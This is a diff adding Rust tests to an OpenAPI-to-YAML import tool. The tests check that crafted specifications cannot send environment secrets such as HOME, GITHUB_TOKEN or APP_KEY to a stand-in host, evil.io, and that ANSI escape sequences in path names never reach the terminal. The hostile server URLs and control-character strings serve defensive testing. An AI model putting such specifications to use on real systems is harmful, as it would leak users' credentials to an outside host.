@@ -18,6 +18,9 @@ use std::{
 };
 
 use serde_json::{Value, json};
+use vantage_api_discover::{Settings, of_specification};
+use vantage_api_ingest::description::Reader;
+use vantage_api_pool::vantage::PoolTableExt;
 
 const TOTAL: u64 = 137;
 
@@ -241,4 +244,98 @@ fn a_specification_is_drafted_without_a_request() {
     let (code, _, told) = printed(&apipool(folder.path(), &["init", "--openapi", "spec.json"]));
     assert_eq!(code, Some(2), "{told}");
     assert!(told.contains("spec.json: its version is `9`"), "{told}");
+}
+
+/// What a description would send, where the environment has secrets of these names.
+async fn sent(yaml: &str) -> String {
+    let secrets = ["HOME", "GITHUB_TOKEN", "SERVER_GITHUB_TOKEN", "SERVER_APP_KEY"];
+    let reader = secrets
+        .iter()
+        .fold(Reader::new(), |reader, secret| reader.variable(*secret, "hunter2"))
+        .variable("API_TOKEN", "open-sesame");
+    let description = match reader.read_yaml(yaml) {
+        Ok(description) => description,
+        Err(error) => return error.to_string(),
+    };
+    let pool = match description.api.clone().builder().and_then(|builder| builder.build()) {
+        Ok(pool) => pool,
+        Err(error) => return error.to_string(),
+    };
+    let source = description.source(pool);
+    let tables = description.tables.iter();
+    let tables = tables.filter_map(|table| description.table(&table.name, &source));
+    tables.map(|table| table.preview().to_string()).collect::<Vec<_>>().join("\n")
+}
+
+#[tokio::test]
+async fn a_specification_has_no_secret_sent_to_its_host() {
+    let draft = |place: Value, path: &str| {
+        let row = json!({ "type": "object", "properties": { "id": { "type": "integer" } } });
+        let rows = json!({ "type": "array", "items": row });
+        let answer =
+            json!({ "schema": rows, "content": { "application/json": { "schema": rows } } });
+        let page = json!({ "name": "page", "in": "query", "schema": { "type": "integer" } });
+        let mut specification = json!({ "openapi": "3.1.0", "paths": { path: { "get": {
+            "parameters": [page], "responses": { "200": answer },
+        } } } });
+        specification.as_object_mut().unwrap().extend(place.as_object().unwrap().clone());
+        let text = specification.to_string();
+        of_specification(&text, "spec.json", &Settings::default()).unwrap().to_yaml()
+    };
+    let server = |url: &str| json!({ "servers": [{ "url": url }] });
+    let variable = |name: &str| {
+        let variables = json!({ name: { "default": "x" } });
+        json!({ "servers": [{ "url": format!("https://{{{name}}}.evil.io"), "variables": variables }] })
+    };
+    for (place, path) in [
+        (server("https://evil.io/${HOME}"), "/rows"),
+        (server("https://evil.io/$${HOME}"), "/rows"),
+        (server("https://evil.io/$$${HOME}"), "/rows"),
+        (server("https://${HOME}.evil.io"), "/rows"),
+        (server("/${HOME}"), "/rows"),
+        (server("${HOME}"), "/rows"),
+        (server("https://evil.io"), "/a/${HOME}/rows"),
+        (server("https://evil.io"), "/a/$${HOME}/rows"),
+        (json!({ "basePath": "/${HOME}" }), "/rows"),
+        (json!({ "basePath": "/$${HOME}" }), "/rows"),
+        (json!({ "host": "evil.io", "basePath": "/${HOME}" }), "/rows"),
+        (json!({ "host": "${HOME}.evil.io" }), "/rows"),
+        (variable("HOME"), "/rows"),
+        (variable("GITHUB_TOKEN"), "/rows"),
+        (variable("APP_KEY"), "/rows"),
+    ] {
+        let yaml = draft(place, path);
+        let sent = sent(&yaml).await;
+        assert!(!sent.is_empty() && !sent.contains("hunter2"), "{yaml}\n{sent}");
+    }
+    // A variable would be seen here.
+    let yaml = draft(server("https://evil.io"), "/rows");
+    let read = sent(&yaml.replace("evil.io", "evil.io/${HOME}")).await;
+    assert!(read.contains("https://evil.io/hunter2/rows"), "{yaml}\n{read}");
+}
+
+#[test]
+fn a_terminal_obeys_nothing_of_a_specification() {
+    let folder = tempfile::tempdir().unwrap();
+    let row = json!({ "type": "object", "properties": { "id": { "type": "integer" } } });
+    let rows = json!({ "type": "array", "items": row });
+    let content = json!({ "application/json": { "schema": rows } });
+    let specification = json!({
+        "openapi": "3.1.0",
+        "servers": [{ "url": "https://h.example" }],
+        "paths": {
+            "/rows\u{1b}[2J": { "get": {
+                "parameters": [{ "name": "page\u{9b}31m", "in": "query" }],
+                "responses": { "200": { "content": content } },
+            } },
+            "/none\u{1b}]0;x\u{7}": { "get": { "responses": { "200": {} } } },
+        },
+    });
+    fs::write(folder.path().join("spec.json"), specification.to_string()).unwrap();
+    let arguments = ["init", "--openapi", "spec.json"];
+    let (_, yaml, told) = printed(&apipool(folder.path(), &arguments));
+    assert!(told.contains("left out: paths whose answers have no schema: /none"), "{told:?}");
+    for text in [yaml, told] {
+        assert!(!text.contains(|c: char| c.is_control() && c != '\n'), "{text:?}");
+    }
 }
